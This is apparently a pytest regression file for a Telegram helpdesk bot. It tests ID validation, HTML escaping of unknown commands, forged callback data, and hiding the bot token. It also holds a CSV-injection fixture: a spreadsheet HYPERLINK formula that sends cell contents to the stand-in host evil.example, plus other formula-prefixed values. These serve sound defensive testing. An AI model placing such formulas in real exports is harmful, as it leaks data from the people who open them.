"""Small things that crashed or leaked: deep links and typed ids that are not plain digits,
an unknown command echoed as HTML, forged ids beyond 32 bits, spreadsheet formulas in the
CSV export, and the bot token in PTB's ``InvalidToken``."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import os
import sys
from pathlib import Path

import pytest

from bot.__main__ import main as cli
from bot.__main__ import spreadsheet_safe
from bot.channels.telegram.emulator import BotAPIEmulator
from bot.channels.telegram.emulator_http import serve_emulator
from tests.announcing import officer, villager
from tests.helping import FAMILY, ask_for_help
from tests.transcript import sees, tr

LOCALES = ("id", "jv")
EXPIRED = "This button has expired."
NOT_VALID = "That button is no longer valid. Here is where we are:"
UNKNOWN = "I do not know the command {command}. Try /menu or /bantuan."


def errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


# --- deep links and typed ids ----------------------------------------------------------


@pytest.mark.parametrize("payload", ["case_²", "case_١٢", "case_9999999999", "case_", "case_-1"])
async def test_a_case_link_that_is_no_plain_id_greets_the_officer(app, person, caplog, payload):
    """``"²".isdigit()`` is true and ``int("²")`` fails; ``9999999999`` is no INTEGER."""
    bu = await officer(app, person, 801, "jogosimo")
    with caplog.at_level(logging.ERROR):
        reply = await bu.say(f"/start {payload}")
    sees(reply, "id", "Welcome back!")
    assert errors(caplog) == []


@pytest.mark.parametrize("locale", LOCALES)
async def test_a_case_link_for_someone_new_starts_onboarding(person, caplog, locale):
    p = person(702, language_code=locale)
    with caplog.at_level(logging.ERROR):
        reply = await p.say("/start case_²")
    sees(reply, locale, "<b>Welcome to the Desmigratif assistant.</b>")
    assert errors(caplog) == []


@pytest.mark.parametrize(
    "command", ["/petugas tambah ² jogosimo", "/petugas hapus 99999999999999999999"]
)
async def test_officer_commands_refuse_ids_that_are_no_telegram_ids(person, caplog, command):
    admin = await villager(person, 900)
    with caplog.at_level(logging.ERROR):
        reply = await admin.say(command)
    assert reply.text == tr(
        "id", "Usage: /petugas tambah TELEGRAM-ID AREA, or /petugas hapus TELEGRAM-ID."
    )
    assert errors(caplog) == []


# --- an unknown command ----------------------------------------------------------------


@pytest.mark.parametrize("locale", LOCALES)
async def test_an_unknown_command_is_repeated_escaped(person, emulator, locale):
    p = await villager(person, 703, locale=locale)
    reply = await p.say("/x<b>")
    assert reply.text.startswith(tr(locale, UNKNOWN, command="/x<b>") + "\n\n")
    sent = [c for c in emulator.calls if c.method == "sendMessage"][-1]
    assert sent.outcome == "ok"
    assert sent.params["text"].startswith(tr(locale, UNKNOWN, command="/x&lt;b&gt;"))


async def test_a_long_unknown_command_is_cut(person):
    p = await villager(person, 704)
    reply = await p.say("/" + "a" * 50 + "<i>")
    assert reply.text.startswith(tr("id", UNKNOWN, command="/" + "a" * 39 + "…") + "\n\n")


# --- forged ids beyond 32 bits ---------------------------------------------------------

FORGED = [
    ("officer", "cs:v:9999999999"),
    ("officer", "cs:v:2147483648"),
    ("officer", "cs:claim:9999999999"),
    ("officer", "cs:ra:9999999999:801"),
    ("officer", "anl:rep:999999999999"),
    ("officer", "anl:halt:2147483648"),
    ("villager", "hr:v:9999999999"),
    ("villager", "hr:ln:9999999999:1:y"),
    ("villager", "qz:n:999999999999"),
    ("villager", "qz:rev:999999999999"),
    ("villager", "qz:a:999999999999:0:a"),
    ("admin", "adm:rm:99999999999999999999"),
    ("admin", "adm:rm:4503599627370496"),  # 2**52: no Telegram id is that large
]


@pytest.mark.parametrize(("who", "data"), FORGED)
async def test_a_forged_id_beyond_the_column_is_an_expired_button(app, person, caplog, who, data):
    if who == "officer":
        p = await officer(app, person, 801, "jogosimo")
    else:
        p = await villager(person, 900 if who == "admin" else 705)
    with caplog.at_level(logging.WARNING):
        reply = await p.press(data)
    assert reply.toast == tr("id", EXPIRED)
    sees(reply, "id", NOT_VALID)
    assert errors(caplog) == []


# --- the CSV export --------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Siti")'


async def test_the_csv_export_neutralises_formulas(person, db, monkeypatch, capsys, database_url):
    p = await villager(person, 706)
    await ask_for_help(
        p,
        details={
            "name": FORMULA_NAME,
            "city": "@SUM(1+1)",
            "employer": "+62 21 555 0101",
            "contact": FAMILY["contact"],
        },
        description="-5 hari tidak digaji",
    )
    monkeypatch.setenv("DATABASE_URL", database_url)
    capsys.readouterr()
    argv = ["cases", "export", "--from", "2026-12-01", "--to", "2026-12-01"]
    assert await asyncio.to_thread(cli, [*argv, "--with-personal-data"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["name"], row["city"], row["employer"], row["description"]) == (
        "'" + FORMULA_NAME,
        "'@SUM(1+1)",
        "'+62 21 555 0101",
        "'-5 hari tidak digaji",
    )
    assert (row["contact"], row["requester_id"], row["reference"]) == (
        FAMILY["contact"],
        "706",  # the Telegram id the reader can look up, not the internal person id
        "DM-2026-000001",
    )
    assert await asyncio.to_thread(cli, [*argv, "--format", "json", "--with-personal-data"]) == 0
    assert FORMULA_NAME.replace('"', '\\"') in capsys.readouterr().out  # JSON is left as is


def test_only_text_cells_are_neutralised():
    row = {
        "tab": "\tcmd",
        "return": "\rcmd",
        "minus": "-1+1",
        "plus": "+1",
        "at": "@A1",
        "equals": "=1",
        "words": "Siti - Kuala Lumpur",
        "negative": -5,
        "fraction": -1.5,
        "flag": True,
        "empty": None,
    }
    assert spreadsheet_safe(row) == {
        "tab": "'\tcmd",
        "return": "'\rcmd",
        "minus": "'-1+1",
        "plus": "'+1",
        "at": "'@A1",
        "equals": "'=1",
        "words": "Siti - Kuala Lumpur",
        "negative": -5,
        "fraction": -1.5,
        "flag": True,
        "empty": None,
    }


# --- the bot token ---------------------------------------------------------------------


@pytest.mark.parametrize("token", ["123456:SECRET-refused-token", "not-a-token-SECRET"])
async def test_a_refused_token_is_not_printed(database_url, token, tmp_path: Path):
    """``desmigratif run`` against a Bot API (the emulator over HTTP) that answers 401."""
    emulator = BotAPIEmulator()
    async with serve_emulator(emulator, token="123456:the-right-one") as base_url:
        command = Path(sys.executable).with_name("desmigratif")
        argv = [str(command), "run"] if command.exists() else [sys.executable, "-m", "bot", "run"]
        env = {
            **os.environ,
            "PTB_TIMEDELTA": "true",
            "TELEGRAM_BOT_TOKEN": token,
            "TELEGRAM_API_BASE_URL": base_url,
            "DATABASE_URL": database_url,
            "NO_PROXY": "127.0.0.1",
            "LISTEN": "127.0.0.1:0",  # a free port: tests run side by side
        }
        process = await asyncio.create_subprocess_exec(
            *argv,
            env=env,
            cwd=tmp_path,
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        output, _ = await asyncio.wait_for(process.communicate(), 60)
    printed = output.decode()
    assert process.returncode == 2, printed
    assert "SECRET" not in printed
    assert "Traceback" not in printed
    assert printed.splitlines()[-1] == (
        "Telegram refused TELEGRAM_BOT_TOKEN (not shown here): check the token "
        "@BotFather gave you, or ask it for a new one."
    )
